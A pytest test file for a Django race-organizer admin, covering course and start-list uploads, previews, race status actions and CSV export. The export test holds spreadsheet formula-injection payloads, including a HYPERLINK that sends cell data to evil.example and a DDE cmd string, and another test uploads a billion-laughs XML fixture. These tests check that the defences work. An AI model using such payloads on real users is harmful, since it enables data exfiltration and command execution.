"""The organizer's whole admin flow, through Django's test client."""

import csv
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from races.models import Race
from races.organizer.start_list import parse_start_list
from tests.conftest import SAMPLE_GPX
from tests.factories import make_race

pytestmark = pytest.mark.django_db

ADD_URL = reverse("admin:races_race_add")
LIST_URL = reverse("admin:races_race_changelist")
START_LIST = b"bib,name,gender,category,pace\n1,Jane Smith,F,W40,5:10\n2,Joe Bloggs,M,M30,\n"


def gpx_upload(name: str = "trailrun-vtr-classic-2019.gpx") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, (SAMPLE_GPX / name).read_bytes(), "application/gpx+xml")


def race_form(**extra) -> dict:
    form = {
        "name": "Vienna Trail",
        "slug": "vienna-trail",
        "time_compression": "20",
        "tick_seconds": "5",
        "seed": "42",
        "athletes-TOTAL_FORMS": "0",
        "athletes-INITIAL_FORMS": "0",
        "checkpoints-TOTAL_FORMS": "0",
        "checkpoints-INITIAL_FORMS": "0",
        "revoked_labels-TOTAL_FORMS": "0",
        "revoked_labels-INITIAL_FORMS": "0",
        "ghosts-TOTAL_FORMS": "0",
        "ghosts-INITIAL_FORMS": "0",
        "visibility": "public",
    }
    form.update(extra)
    return form


@pytest.fixture
def organizer(client, admin_user):
    client.force_login(admin_user)
    return client


def act(client, action: str, race: Race):
    return client.post(LIST_URL, {"action": action, "_selected_action": [race.pk]}, follow=True)


def test_only_staff_reach_the_admin(client, django_user_model):
    assert client.get(LIST_URL).status_code == 302
    user = django_user_model.objects.create_user("fan", password="pw-123456789")
    client.force_login(user)
    response = client.get(LIST_URL)
    assert response.status_code == 302 and "/admin/login/" in response["Location"]


def kept_fields(response) -> dict:
    """The hidden fields a browser posts back after a preview (file inputs come back empty)."""
    form = response.context["adminform"].form
    names = ["gpx_cached", "gpx_cached_name", "start_list_cached", "start_list_cached_name"]
    return {name: form[name].value() or "" for name in names}


def test_preview_shows_the_course_without_saving_then_save_keeps_it(organizer):
    response = organizer.post(ADD_URL, race_form(gpx_file=gpx_upload(), _preview="1"))
    page = response.content.decode()
    assert response.status_code == 200
    assert "Preview: check the course and start list below" in page
    assert "14.11 km" in page and "<svg" in page
    assert "Please correct" not in page and "errornote" not in page
    assert not Race.objects.exists()
    response = organizer.post(ADD_URL, race_form(**kept_fields(response), _save="Save"))
    assert response.status_code == 302
    assert Race.objects.get().course.point_count == 530


def test_the_start_list_chosen_before_the_preview_is_imported_on_save(organizer):
    response = organizer.post(
        ADD_URL,
        race_form(
            gpx_file=gpx_upload(),
            start_list_file=SimpleUploadedFile("athletes.csv", START_LIST, "text/csv"),
            _preview="1",
        ),
    )
    page = response.content.decode()
    assert "athletes.csv</strong>: 2 athletes, kept for saving" in page
    assert "Please correct" not in page
    response = organizer.post(
        ADD_URL, race_form(**kept_fields(response), _save="Save"), follow=True
    )
    assert "Imported 2 athletes from the start list." in response.content.decode()
    assert [a.name for a in Race.objects.get().athletes.all()] == ["Jane Smith", "Joe Bloggs"]


def test_a_preview_with_a_bad_slug_shows_the_error_and_keeps_both_files(organizer):
    response = organizer.post(
        ADD_URL,
        race_form(
            slug="Bad Slug!",
            gpx_file=gpx_upload(),
            start_list_file=SimpleUploadedFile("athletes.csv", START_LIST, "text/csv"),
            _preview="1",
        ),
    )
    page = response.content.decode()
    assert "Please correct the error below" in page
    assert "letters, numbers, underscores or hyphens" in page
    assert "Preview only" not in page
    kept = kept_fields(response)
    assert kept["gpx_cached"] and kept["start_list_cached"]
    organizer.post(ADD_URL, race_form(**kept, _save="Save"))
    race = Race.objects.get()
    assert race.slug == "vienna-trail" and race.athletes.count() == 2


def test_upload_course_and_start_list_then_start_stop_reset(organizer):
    response = organizer.post(
        ADD_URL,
        race_form(
            gpx_file=gpx_upload(),
            start_list_file=SimpleUploadedFile("athletes.csv", START_LIST, "text/csv"),
        ),
        follow=True,
    )
    assert "Imported 2 athletes" in response.content.decode()
    race = Race.objects.get()
    assert [a.name for a in race.athletes.all()] == ["Jane Smith", "Joe Bloggs"]

    page = act(organizer, "start_races", race).content.decode()
    assert "Vienna Trail: started." in page
    assert Race.objects.get().status == "running"

    page = act(organizer, "reset_races", race).content.decode()
    assert "cannot become draft: stop it first" in page
    assert Race.objects.get().status == "running"

    act(organizer, "stop_races", race)
    assert Race.objects.get().status == "stopped"
    organizer.post(
        LIST_URL, {"action": "reset_races", "_selected_action": [race.pk], "post": "yes"}
    )
    assert Race.objects.get().status == "draft"


def test_a_bad_gpx_is_refused_with_its_reason_and_nothing_saved(organizer):
    response = organizer.post(ADD_URL, race_form(gpx_file=gpx_upload("hostile-billion-laughs.gpx")))
    assert "declares a DTD or entities" in response.content.decode()
    assert not Race.objects.exists()


def test_a_race_needs_a_course(organizer):
    response = organizer.post(ADD_URL, race_form())
    assert "A race needs a course" in response.content.decode()


def test_a_bad_start_list_is_reported_by_line_and_nothing_is_imported(organizer):
    bad = b"bib,name,gender\n1,Jane,F\n2,Joe,robot\n3,,M\n"
    response = organizer.post(
        ADD_URL,
        race_form(gpx_file=gpx_upload(), start_list_file=SimpleUploadedFile("a.csv", bad)),
    )
    page = response.content.decode()
    assert "line 3: gender &#x27;robot&#x27; is not one of female, male, other" in page
    assert "line 4: name must be 1 to 200 characters" in page
    assert not Race.objects.exists()
    # The validated GPX waits in the form, so fixing the CSV needs no re-upload.
    assert response.context["adminform"].form["gpx_cached"].value()


def test_the_change_list_shows_status_and_live_link(organizer):
    organizer.post(ADD_URL, race_form(gpx_file=gpx_upload()))
    page = organizer.get(LIST_URL).content.decode()
    assert "Draft</span>" in page and 'href="/races/vienna-trail/"' in page


def test_start_list_export_downloads_csv_with_formulas_neutralised(organizer):
    race = make_race(athletes=0, slug="export-me")
    hostile = {
        "1": '=HYPERLINK("http://evil.example/?"&A1,"Results")',
        "2": "+1+cmd|' /C calc'!A0",
        "3": "-2+3",
        "4": "@SUM(A1:A9)",
        "5": "\tTabbed",
        "6": "Jane Smith",
    }
    for bib, name in hostile.items():
        race.athletes.create(bib=bib, name=name, gender="female", category="W40")
    response = act(organizer, "export_start_list", race)
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="export-me-start-list.csv"'
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert rows[0] == ["bib", "name", "gender", "category", "pace"]
    names = {row[0]: row[1] for row in rows[1:]}
    assert names == {
        bib: name if name == "Jane Smith" else "'" + name for bib, name in hostile.items()
    }
    assert not any(cell[:1] in ("=", "+", "-", "@", "\t") for row in rows for cell in row)


def test_start_list_export_round_trips_through_import(organizer):
    race = make_race(athletes=0)
    race.athletes.create(bib="7", name="Joe Bloggs", gender="male", category="M30")
    race.athletes.create(bib="8", name="Ann Lee", gender="female", flat_pace_s_per_km=310)
    exported = act(organizer, "export_start_list", race).content.decode()
    assert [(r.bib, r.name, r.gender, r.category, r.flat_pace_s_per_km) for r in
            parse_start_list(exported)] == [
        ("7", "Joe Bloggs", "male", "M30", None),
        ("8", "Ann Lee", "female", "", 310.0),
    ]  # fmt: skip


def test_start_list_export_needs_exactly_one_race(organizer):
    first, second = make_race("One"), make_race("Two")
    response = organizer.post(
        LIST_URL,
        {"action": "export_start_list", "_selected_action": [first.pk, second.pk]},
        follow=True,
    )
    assert "Select one race to export its start list." in response.content.decode()
